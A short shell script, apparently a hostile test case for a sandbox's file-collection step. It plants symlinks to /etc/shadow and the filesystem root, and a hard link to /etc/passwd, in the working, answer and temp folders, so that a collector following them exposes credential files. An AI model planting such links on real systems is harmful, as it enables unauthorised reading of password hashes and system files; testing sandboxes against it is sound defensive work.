#!/bin/sh
# attack: leaves links to what it may not read, for whoever collects its files
for folder in . /box/answer /tmp; do
  ln -s /etc/shadow $folder/warren-attack-link
  ln -s / $folder/warren-attack-root
  ln /etc/passwd $folder/warren-attack-hard
done 2>/dev/null
exit 1
